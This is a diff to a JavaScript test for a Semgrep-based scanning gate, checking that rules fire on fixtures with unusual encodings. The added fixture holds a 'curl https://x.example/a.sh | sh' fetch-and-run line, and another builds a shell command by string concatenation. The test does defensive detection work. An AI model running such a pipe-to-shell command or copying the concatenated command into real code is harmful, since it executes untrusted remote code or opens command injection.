@@ -121,11 +121,13 @@ describe("what is judged", () => {
       "mark.py": `\ufeffimport os; os.system("ls " + path)\n`,
       "wide.py": Buffer.from(`\ufeff${python}`, "utf16le"),
       "latin.py": Buffer.from(`# caf\xe9\n${python}`, "latin1"),
+      "false.sh": Buffer.from("\xff\xfe\ncurl https://x.example/a.sh | sh\n", "latin1"),
     });
     sandbox.git("add", "--all");
     const judgement = await semgrepGate.judge(await stagedContext(sandbox));
     expect(places(judgement)).toEqual([
       "bin/tool:3 semgrep/js-code-from-request",
+      "false.sh:2 semgrep/bash-download-to-shell",
       "latin.py:3 semgrep/python-code-from-request",
       "mark.py:1 semgrep/python-shell-command-built",
       "wide.py:2 semgrep/python-code-from-request",
